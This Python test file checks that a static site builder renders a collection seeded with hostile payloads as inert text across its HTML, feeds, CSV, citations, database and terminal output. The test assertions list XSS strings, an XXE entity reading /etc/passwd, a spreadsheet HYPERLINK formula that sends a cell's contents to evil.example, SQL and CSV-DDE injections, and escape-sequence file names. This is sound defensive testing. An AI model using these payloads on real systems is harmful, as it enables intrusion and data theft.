"""Whatever a collection's texts, names and settings hold stays text in everything that is made.

One collection holds each of `hostile.PAYLOADS` wherever it can hold a text; every file that comes
of it is read by a parser that reads as the programs do for which it is made.
"""

from __future__ import annotations

import csv
import io
import json
import os
import re
import sqlite3
import subprocess
import sys
from collections.abc import Callable, Iterator
from html import unescape
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import html5lib
import pytest
import rispy
from lxml import etree
from markdown import Markdown
from pybtex.database import parse_string

from browsing import search_for
from builder.html.policy import POLICY
from builder.publishing.site_check import check_site
from builder.releasing.release import release
from builder.site import Run, build
from hostile import KINDS, MARK, PAYLOADS, write_hostile
from reading import Noted
from site_fixtures import ROOT, Built, served

pytestmark = pytest.mark.slow

Element = tuple[str, str]  # a tag and the name of an attribute, "" for the tag itself
ATOM = "{http://www.w3.org/2005/Atom}"
# What their countries and dates ask of maps and charts, and those of other documents do not.
RECT = "{http://www.w3.org/2000/svg}rect"
FURTHER = {(RECT, name) for name in ("", "x", "y", "width", "height")}
ADDRESSES = {
    "href", "src", "action", "formaction", "data", "poster", "srcset", "ping", "cite",
    "background", "manifest", "longdesc", "xlink:href", "xml:base",
}  # fmt: skip
LEADS = {"@id", "url", "href", "anchor", "contentUrl", "sameAs"}  # keys in data for programs
SCHEMES = {"", "http", "https"}
LOADED = {"script", "img", "iframe", "object", "embed", "use", "image", "video", "audio", "source"}
ACTING = "img, [onload], [onerror], [onclick], [style*=alert], a[href^='javascript:']"
FORMULA = re.compile('["\ufeff\u200b\u202e]*[=+\\-@\t\r\n\uff1d\uff0b\uff0d\uff20].', re.DOTALL)
NUMBER = re.compile(r"[-+]?\d+(?:\.\d+)?")


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Built:
    root = tmp_path_factory.mktemp("hostile")
    settings = write_hostile(root / "collection")
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("SOURCE_DATE_EPOCH", "1767225600")
        patch.delenv("SITE_URL", raising=False)
        outcome = build(settings, Run(), offline=root / "offline")
    assert outcome.documents == len(PAYLOADS)
    return Built(settings, root / "offline", outcome)


def texts(folder: Path, *endings: str) -> Iterator[tuple[str, str]]:
    """Yield the files of a folder with these endings, which there have to be."""
    files = [file for ending in endings for file in sorted(folder.rglob(f"*{ending}"))]
    assert files, endings
    for file in files:
        yield file.relative_to(folder).as_posix(), file.read_bytes().decode("utf-8")


def parsed(html: str) -> Any:
    return html5lib.parse(html, namespaceHTMLElements=False)


def elements_of(tree: Any) -> set[Element]:
    found = set()
    for element in tree.iter():
        if isinstance(element.tag, str):
            found |= {(element.tag, ""), *((element.tag, name) for name in element.attrib)}
    return found


def faults_of(path: str, tree: Any) -> Iterator[str]:
    """Yield what on a page acts, or leads where nothing should."""
    for element in tree.iter():
        if not isinstance(element.tag, str):
            continue
        tag = element.tag.rpartition("}")[2]
        for name, value in element.items():
            if name.startswith("on") or name in ("style", "srcdoc"):
                yield f"{path}: <{tag} {name}>"
            if name in ADDRESSES:
                scheme = scheme_of(value)
                loads = tag in LOADED or (tag == "link" and "stylesheet" in element.get("rel", ""))
                if scheme not in SCHEMES or (loads and (scheme or value.startswith("//"))):
                    yield f'{path}: <{tag} {name}="{value[:80]}">'
        if tag == "script" and element.get("type") == "application/ld+json":
            yield from (
                f"{path}: JSON-LD {fault}" for fault in link_faults(json.loads(element.text))
            )
        elif tag == "script" and ((element.text or "").strip() or not element.get("src")):
            yield f"{path}: an inline script"
        if tag == "meta" and element.get("http-equiv", "").lower() not in (
            "",
            "content-security-policy",
        ):
            yield f"{path}: <meta http-equiv={element.get('http-equiv')}>"


def scheme_of(address: str) -> str:
    """Return the scheme that a browser reads, which passes over white space and controls."""
    seen = re.sub(r"[\t\r\n]", "", address).strip("".join(map(chr, range(33))))
    found = re.match(r"([A-Za-z][A-Za-z0-9+.-]*):", seen)
    return found[1].lower() if found else ""


def is_wrong(address: str) -> bool:
    return scheme_of(address) not in SCHEMES or bool(set(address) & set('<>"'))


def link_faults(value: Any, key: str = "") -> Iterator[str]:
    """Yield addresses in data for programs that are none of the web."""
    if isinstance(value, dict):
        for name, one in value.items():
            yield from link_faults(one, name)
    elif isinstance(value, list):
        for one in value:
            yield from link_faults(one, key)
    elif isinstance(value, str) and key in LEADS and is_wrong(value):
        yield f'{key}: "{value[:80]}"'


def test_pages_hold_no_element_and_no_attribute_that_others_do_not(
    hostile: Built, everything: Built, built: Built
) -> None:
    """Those of this repository's own documents are the measure."""
    allowed = set(FURTHER)
    for one in (built, everything):
        for _, html in texts(one.site, ".html"):
            allowed |= elements_of(parsed(html))
    assert ("img", "onerror") not in allowed
    assert ("svg", "onload") not in allowed
    faults, many = [], 0
    for folder in (hostile.site, hostile.offline):
        for path, html in texts(folder, ".html"):
            tree = parsed(html)
            faults += [f"{path}: {one}" for one in elements_of(tree) - allowed]
            faults += faults_of(path, tree)
            assert f'content="{POLICY}"' in unescape(html)
            many += 1
    assert many > 200
    assert faults == []


def test_each_text_arrives_as_text(hostile: Built) -> None:
    """Or nothing above would be worth anything."""
    said = "\n".join("".join(parsed(html).itertext()) for _, html in texts(hostile.site, ".html"))
    for text in (
        "<script>alert(1)</script>",
        "\"'><img src=x onerror=alert(2)>",
        "--><svg onload=alert(3)>",
        "&lt;script&gt;alert(4)&lt;/script&gt; &amp;lt;b&amp;gt;",
        "{{ 7 * 7 }} {% raise %} {# x #} ${7*7}",
        "[go](javascript:alert(5)) ![x](x){: onclick=alert(5) } {#id .class}",
        "<![CDATA[ <!ENTITY x SYSTEM 'file:///etc/passwd'> &x; <?php ?>",
        '=HYPERLINK("https://evil.example?"&A1,"x")',
        "'; DROP TABLE documents; --",
    ):
        assert said.count(text) > 5, text
    for number in range(len(PAYLOADS)):
        assert said.count(MARK.format(number)) > 5
    for kind in KINDS:
        assert len(list((hostile.site / kind).glob(f"{kind}-*/index.html"))) >= len(PAYLOADS) - 2


def test_the_check_of_the_site_finds_nothing(hostile: Built) -> None:
    address = "https://www.example.org/x/"
    assert [str(problem) for problem in check_site(hostile.site, site_url=address)] == []


def test_data_for_programs_is_data(hostile: Built) -> None:
    faults = []
    for path, text in texts(hostile.site, ".json", ".jsonld"):
        faults += [f"{path}: {fault}" for fault in link_faults(json.loads(text))]
    assert faults == []


def test_feed_and_lists_for_machines_are_xml_of_known_elements(hostile: Built) -> None:
    parser = etree.XMLParser(resolve_entities=False, no_network=True, huge_tree=False)
    known = {"feed": 0, "OpenSearchDescription": 0, "urlset": 0}
    for path, text in texts(hostile.site, ".xml"):
        assert "<!DOCTYPE" not in text
        assert "<?php" not in text
        root = etree.fromstring(text.encode(), parser)
        known[etree.QName(root).localname] += 1
        for element in root.iter():
            assert isinstance(element.tag, str), path  # no comment, no instruction
            assert not set(element.attrib) - {"href", "rel", "type", "term", "scheme", "label",
                "template", "method", "width", "height", "title", "length",
                "{http://www.w3.org/XML/1998/namespace}lang"}  # fmt: skip
            for name in ("href", "template"):
                assert scheme_of(element.get(name, "")) in SCHEMES
        for entry in root.iter(f"{ATOM}entry"):
            for html in (*entry.iter(f"{ATOM}summary"), *entry.iter(f"{ATOM}content")):
                if html.get("type") == "html":
                    assert list(faults_of(path, parsed(html.text))) == []
    assert set(known.values()) == {1}
    feed = etree.parse(hostile.site / "feed.xml")
    assert len(feed.findall(f"{ATOM}entry")) == len(PAYLOADS)


def test_no_cell_of_a_table_is_a_formula(hostile: Built) -> None:
    cells = 0
    for path, text in texts(hostile.site, ".csv"):
        rows = list(csv.reader(io.StringIO(text, newline=""), strict=True))
        assert {len(row) for row in rows} == {len(rows[0])}, path
        for row in rows:
            for cell in row:
                cells += 1
                assert NUMBER.fullmatch(cell) or not FORMULA.match(cell), f"{path}: {cell[:80]!r}"
    assert cells > 5000


def test_references_are_one_a_document_whatever_lines_a_text_has(hostile: Built) -> None:
    together = {"data/references.ris", "data/references.bib"}
    for path, text in texts(hostile.site, ".ris"):
        entries = rispy.loads(text)
        assert len(entries) == (len(PAYLOADS) if path in together else 1), path
        assert all(re.match(r"[A-Z][A-Z0-9]  - |\Z", line) for line in text.split("\r\n")), path
        assert {entry["type_of_reference"] for entry in entries} == {"RPRT"}
        assert all(len(entry["title"]) > 5 for entry in entries)
    for path, text in texts(hostile.site, ".bib"):
        entries = parse_string(text, "bibtex").entries
        assert len(entries) == (len(PAYLOADS) if path in together else 1), path
        for key, entry in entries.items():
            assert key != "evil"
            assert urlsplit(entry.fields["url"]).hostname == "www.example.org"


def test_markdown_for_machines_is_read_as_text(hostile: Built) -> None:
    for path, text in texts(hostile.site, ".html.md"):
        tree = parsed(Markdown(extensions=["attr_list", "tables", "toc"]).convert(text))
        assert list(faults_of(path, tree)) == []
        assert not {"script", "img", "svg", "style", "iframe"} & {
            tag for tag, _ in elements_of(tree)
        }
        hosts = {urlsplit(one.get("href")).hostname for one in tree.iter("a") if one.get("href")}
        assert hosts <= {None, "www.example.org", "web.archive.org"}, path


def test_lists_of_links_have_no_line_of_a_text(hostile: Built) -> None:
    lines = (hostile.site / "llms.txt").read_text("utf-8").splitlines()
    assert not [line for line in lines if re.match(r"(?:#|>|-|Sitemap:)\s*\[?evil", line)]
    for line in lines:
        for address in re.findall(r"(?<!\\)\]\((.*?)\)", line):
            assert address.startswith("https://www.example.org/x/"), line


@pytest.fixture(scope="module")
def database(hostile: Built, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Any]:
    files, _ = release(hostile.settings, tmp_path_factory.mktemp("release") / "out")
    (file,) = [one for one in files if one.name.endswith(".sqlite")]
    found = next(tmp_path_factory.getbasetemp().rglob(file.name))
    connection = sqlite3.connect(f"file:{found}?mode=ro", uri=True)
    yield connection
    connection.close()


def test_the_database_holds_texts_and_runs_none(hostile: Built, database: Any) -> None:
    assert database.execute("PRAGMA integrity_check").fetchall() == [("ok",)]
    assert database.execute("SELECT count(*) FROM documents").fetchone() == (len(PAYLOADS),)
    schema = [sql for (sql,) in database.execute("SELECT sql FROM sqlite_master") if sql]
    assert not [sql for sql in schema if re.search(r"zebu|TRIGGER", sql)]
    for number in range(len(PAYLOADS)):
        found = database.execute(
            "SELECT count(*) FROM passages_fts WHERE passages_fts MATCH ?", (MARK.format(number),)
        ).fetchone()
        assert found[0] > 5
    (titles,) = zip(*database.execute("SELECT title FROM documents"), strict=True)
    assert any(title.startswith("+1+cmd|'") for title in titles), "as it is, without a guard"


@pytest.mark.browser
def test_nothing_acts_in_a_browser(hostile: Built, open_page: Callable[..., Any]) -> None:
    """Where scripts of ours bring texts into a page: results, suggestions, citations, cards."""
    noted, asked = Noted(), list[str]()
    with served(hostile.site) as home:
        page = open_page("about:blank", noted=noted)
        page.on("dialog", lambda dialog: (asked.append(dialog.message), dialog.dismiss()))
        for number in range(0, len(PAYLOADS), 3):
            mark = MARK.format(number)
            page.goto(home)
            assert search_for(page, mark).count()
            assert not page.locator(ACTING).count()
            page.goto(f"{home}search/?q={mark}")
            page.locator(".found-passage").first.wait_for()
            assert not page.locator(ACTING).count()
        for folder in sorted(hostile.site.glob("documents/*/linkset.json"))[::4]:
            page.goto(f"{home}documents/{folder.parent.name}/")
            page.locator(".block a.mention").first.hover()
            page.locator("#_card").wait_for()
            page.get_by_role("button", name="Cite", exact=True).first.click()
            page.locator("dialog[open]").wait_for()
            assert not page.locator(ACTING).count()
        for kind in ("documents", *KINDS, "figures", "timeline"):
            page.goto(f"{home}{kind}/")
            page.wait_for_load_state("networkidle")
            assert not page.locator(ACTING).count()
    assert asked == []
    assert noted.complaints == []
    assert noted.elsewhere(home) == []


# What a terminal is told by click itself: colors, and a bar that is painted again and again. The
# carriage return of a payload has other words behind it than a bar.
OWN = re.compile(r"\x1b\[(?:[0-9;]*m|K|\?25[lh])|\r(?!  0 problems)")
ACTS = re.compile("[\0-\x08\x0b-\x1f\x7f-\x9f\u200e\u200f\u202a-\u202e\u2066-\u2069\u2028\ufeff]")


def on_a_terminal(folder: Path, *words: str) -> str:
    """Return what a command prints where both its outputs are a terminal."""
    pty = pytest.importorskip("pty")
    ours, its = pty.openpty()
    process = subprocess.Popen(
        [sys.executable, "-m", "builder.cli", *words],
        cwd=folder,
        env={**os.environ, "PYTHONPATH": str(ROOT), "TERM": "xterm", "COLUMNS": "200"},
        stdin=subprocess.DEVNULL,
        stdout=its,
        stderr=its,
    )
    os.close(its)
    said = b""
    while True:
        try:
            part = os.read(ours, 65536)
        except OSError:  # Linux says so that nobody writes any more
            break
        if not part:
            break
        said += part
    process.wait(timeout=60)
    os.close(ours)
    return said.decode("utf-8")


@pytest.mark.parametrize(
    "words",
    [
        ("build",),
        ("check", "--site"),
        ("review",),
        ("annotate", "seeds"),
        ("annotate", "--explain", "seeds"),
    ],
    ids=" ".join,
)
def test_nothing_acts_on_a_terminal(hostile: Built, words: tuple[str, ...]) -> None:
    root = hostile.settings.root
    if "annotate" in words:
        files = sorted(str(file) for file in hostile.settings.seeds.glob("*.txt"))
        words = (*words[:-1], *files)
    (hostile.settings.seeds / "bad\x1b[2J\u202e.txt").write_text('---\ntitle: "\x9b\n---\nx')
    said = on_a_terminal(root, *words)
    (hostile.settings.seeds / "bad\x1b[2J\u202e.txt").unlink()
    assert "zebu" in said or "bad" in said
    assert not (found := ACTS.search(OWN.sub("", said))), said[max(0, found.start() - 99) :][:200]
